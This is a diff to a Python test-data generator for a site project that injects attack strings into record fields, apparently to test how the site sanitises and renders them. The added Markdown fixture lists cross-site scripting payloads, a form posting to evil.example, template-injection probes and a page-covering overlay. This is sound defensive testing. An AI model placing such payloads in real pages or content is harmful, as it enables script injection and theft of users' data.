@@ -18,6 +18,7 @@ import yaml
 from annotated_types import MaxLen
 from pydantic import TypeAdapter, ValidationError
 
+from gongshi.body import Body
 from gongshi.kinds import all_kinds
 from gongshi.record import FieldSpec, Kind, Part, specs
 from site_tools import ROOT
@@ -49,6 +50,28 @@ TIED = {
 }
 """Public texts that are not free although their type is: another rule asks what they say."""
 OTHER = "其他-"
+CITED = "\n《示例袭击法》第七十七条"
+"""What a text that cites laws ends with: the short name of the first law, so that pages of its articles list attacked records."""
+MARKDOWN = """\
+## 标题<img src=x onerror=alert(11)>
+
+[点这里](javascript:alert(12)) [空格]( java&#115;cript:alert(13)) <a href="data:text/html,<script>alert(14)</script>">数据</a>
+
+![图](x.png) <img src="y.png"> <iframe src="z"></iframe>
+
+<script>alert(15)</script><style>body{display:none}</style><svg><script>alert(16)</script></svg>
+
+<form action="https://evil.example/"><input name=q><button>送</button></form>
+
+<!--gongshi:main--> <!--gongshi:head--> <!--gongshi:title--> {{7*7}} ${7*7} ]]> </article></main></body></html>
+
+| 列 |
+| --- |
+| <details open ontoggle=alert(17)>x</details> |
+
+<p id="__drawer" class="md-header" style="position:fixed;inset:0">盖住</p>
+"""
+"""What Markdown can be besides: Markdown gets this and every payload."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -97,7 +120,7 @@ def room_of(spec: FieldSpec, model: type[Part], prefix: str) -> int:
     if spec.many:
         return 80
     lengths = [one.max_length for one in model.model_fields[spec.name].metadata if isinstance(one, MaxLen)]
-    return min([*lengths, 4000]) - (4 if spec.meta.unique else 0)
+    return min([*lengths, 4000]) - len(CITED) * (spec.shape.name == "basis") - (4 if spec.meta.unique else 0)
 
 
 @cache
@@ -152,6 +175,10 @@ class Dealer:
     def deal(self, path: str, spec: FieldSpec, model: type[Part], prefix: str) -> Any:
         if path not in self.hands:  # fields begin at different places: a record holds more than one attack
             texts = texts_for(room_of(spec, model, prefix), " " if prefix else "\n")
+            if spec.shape.name == "basis":
+                texts = tuple(text + CITED for text in texts)
+            if spec.shape.name == "markdown":
+                texts = (*texts, MARKDOWN)
             start = 7 * len(self.hands) % len(texts)
             self.hands[path] = chain(texts[start:], texts[:start], cycle(text for text in texts if len(text) <= 80))
             self.left[path] = len(texts)
@@ -224,6 +251,8 @@ def records_of(kind: Kind) -> tuple[Attacked, ...]:
     while not records or any(left > 0 for left in dealer.left.values()):
         id, dealer.held = f"a-{len(records)}", {}
         values = attacked_part(kind.record, base, dealer, "", 0)
+        if kind.name == "laws" and not records:
+            values["简称"] = [*values["简称"], "示例袭击法"]
         values |= {"标识": id} | numbered(kind, base, len(records) + 1)
         records.append(Attacked(kind.name, id, values, {path: tuple(texts) for path, texts in dealer.held.items()}))
     return tuple(records)
@@ -243,6 +272,16 @@ def numbered(kind: Kind, base: Mapping[str, Any], number: int) -> dict[str, str]
 def attacks() -> Mapping[str, tuple[Attacked, ...]]:
     """Return the records of every kind."""
     return {name: records_of(kind) for name, kind in all_kinds().items()}
+
+
+def attacked_body() -> dict[str, Any]:
+    """Return the body's own file with an attack in each of its free texts."""
+    values = yaml.load((ROOT / "data/site.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
+    free = [spec for spec in specs(Body) if spec.meta.public and not spec.part_type and prefix_of(spec, Body) == ""]
+    for place, spec in enumerate(free):
+        texts = texts_for(room_of(spec, Body, ""), " ")
+        values[spec.meta.label] = [texts[-1 - place]] if spec.many else texts[-1 - place]
+    return {**values}
 
 
 def as_yaml(data: Mapping[str, Any]) -> str:
